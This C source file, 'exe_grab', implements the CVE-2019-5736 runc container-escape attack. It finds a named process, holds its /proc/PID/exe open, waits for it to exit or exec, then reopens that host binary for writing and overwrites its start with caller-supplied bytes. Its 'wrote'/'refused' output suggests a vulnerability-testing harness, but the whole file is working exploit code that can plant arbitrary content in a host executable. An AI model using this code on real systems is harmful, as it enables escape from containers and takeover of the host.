/* exe_grab: the CVE-2019-5736 attack, from inside a container. Finds a
 * process whose argv[0] ends in NAME (or is NAME, when NAME holds a '/'), opens its /proc/PID/exe (O_PATH) while
 * it runs, says "grabbed PID", waits for the process to be gone (or to have
 * exec'd something else), then reopens the grabbed file for writing through
 * /proc/self/fd and writes MARK at its start.
 *
 *   exe_grab NAME MARK [TRIES]   prints "wrote" (exit 0) or "refused: ERRNO" (exit 1)
 *
 * TRIES (default 20000) is how many times /proc is searched, about a
 * millisecond apart, before "no process named NAME could be grabbed".
 *
 * Static, so it runs in any container root. Gives up after 20 s.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int matches(const char *pid, const char *name) {
    char path[300], buf[4096];
    snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return 0;
    buf[n] = '\0';
    if (strchr(name, '/')) return strcmp(buf, name) == 0;
    const char *base = strrchr(buf, '/');
    base = base ? base + 1 : buf;
    return strcmp(base, name) == 0;
}

static void nap(void) {
    struct timespec ts = {0, 1000000};
    nanosleep(&ts, NULL);
}

int main(int argc, char **argv) {
    if (argc != 3 && argc != 4) {
        fprintf(stderr, "usage: exe_grab NAME MARK [TRIES]\n");
        return 2;
    }
    setvbuf(stdout, NULL, _IONBF, 0);
    char self[16];
    snprintf(self, sizeof self, "%d", getpid());
    int fd = -1, target = 0;
    char first[4096] = "";
    int tries = argc == 4 ? atoi(argv[3]) : 20000;
    for (int round = 0; round < tries && fd < 0; ++round) {
        DIR *d = opendir("/proc");
        if (!d) return perror("/proc"), 2;
        struct dirent *e;
        while ((e = readdir(d)) && fd < 0) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || !strcmp(e->d_name, self)) continue;
            if (!matches(e->d_name, argv[1])) continue;
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            fd = open(path, O_PATH | O_CLOEXEC);
            if (fd >= 0) {
                target = atoi(e->d_name);
                ssize_t n = readlink(path, first, sizeof first - 1);
                first[n > 0 ? n : 0] = '\0';
            }
        }
        closedir(d);
        if (fd < 0) nap();
    }
    if (fd < 0) {
        printf("no process named %s could be grabbed\n", argv[1]);
        return 1;
    }
    printf("grabbed %d: %s\n", target, first);
    /* Wait for the process to exec something else or leave. */
    char path[64], now[4096];
    snprintf(path, sizeof path, "/proc/%d/exe", target);
    for (int i = 0; i < 20000; ++i) {
        ssize_t n = readlink(path, now, sizeof now - 1);
        if (n < 0 || (now[n] = '\0', strcmp(now, first) != 0)) break;
        nap();
    }
    char self_fd[64];
    snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
    int err = 0;
    for (int i = 0; i < 5000; ++i) { /* ETXTBSY until the last user is gone */
        int w = open(self_fd, O_WRONLY | O_CLOEXEC);
        if (w >= 0) {
            ssize_t n = pwrite(w, argv[2], strlen(argv[2]), 0);
            err = n < 0 ? errno : 0;
            close(w);
            if (n >= 0) {
                printf("wrote\n");
                return 0;
            }
            break;
        }
        err = errno;
        if (err != ETXTBSY) break;
        nap();
    }
    printf("refused: %s\n", strerrorname_np(err) ? strerrorname_np(err) : "?");
    return 1;
}
